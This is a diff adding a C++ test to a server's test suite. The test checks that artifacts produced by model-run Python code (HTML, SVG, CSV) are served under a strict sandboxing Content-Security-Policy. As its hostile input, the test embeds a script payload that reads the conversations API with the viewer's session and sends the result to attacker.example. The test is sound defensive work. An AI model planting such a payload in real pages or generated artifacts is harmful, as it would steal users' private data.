@@ -196,5 +196,43 @@ TEST(Access, WithoutTokensOnlyLoopbackIsServed) {
   EXPECT_EQ(open.stop(SIGTERM), 0);
 }
 
+TEST(Access, AHostileArtifactIsServedInASandboxOfItsOwn) {
+  QuarryServer server;
+  ASSERT_TRUE(server.started());
+  ApiClient api(server.url());
+  const auto id = api.create_conversation();
+  // What model code could write to trick a viewer: a page and an SVG that try to read the API
+  // with the viewer's session, and a CSV that is really a page.
+  auto cell =
+      api.cell(id, "python",
+               "steal = '<script>fetch(\"/api/v1/conversations\").then(r => r.text())"
+               ".then(t => fetch(\"https://attacker.example/?\" + t))</script>'\n"
+               "open('/home/sandbox/outputs/chart.html', 'w').write('<html><body>' + steal)\n"
+               "open('/home/sandbox/outputs/logo.svg', 'w').write("
+               "'<svg xmlns=\"http://www.w3.org/2000/svg\">' + steal + '</svg>')\n"
+               "open('/home/sandbox/outputs/table.csv', 'w').write('<html>' + steal)\n");
+  auto saved = of_type(cell.events, "artifact");
+  ASSERT_EQ(saved.size(), 3u);
+  for (const auto& artifact : saved) {
+    const std::string type = artifact.data["artifact"]["type"];
+    SCOPED_TRACE(type);
+    auto served = api.get(artifact.data["artifact"]["url"]);
+    ASSERT_EQ(served.status, 200);
+    const std::string policy = served.header("Content-Security-Policy");
+    // An opaque origin of its own: no cookies, no reading the API, nothing fetched anywhere.
+    EXPECT_TRUE(policy.starts_with("sandbox")) << policy;
+    EXPECT_EQ(policy.find("allow-same-origin"), std::string::npos);
+    EXPECT_NE(policy.find("default-src 'none'"), std::string::npos);
+    EXPECT_EQ(policy.find("connect-src"), std::string::npos);  // so default-src 'none' holds
+    EXPECT_EQ(served.header("X-Content-Type-Options"), "nosniff");
+    // Scripts run only where a chart needs them; a CSV is never a page.
+    EXPECT_EQ(policy.find("allow-scripts") != std::string::npos, type != "csv");
+    EXPECT_EQ(served.header("Content-Type"), type == "html"  ? "text/html; charset=utf-8"
+                                             : type == "svg" ? "image/svg+xml"
+                                                             : "text/csv; charset=utf-8");
+  }
+  EXPECT_EQ(server.stop(SIGTERM), 0);
+}
+
 }  // namespace
 }  // namespace quarry::testing
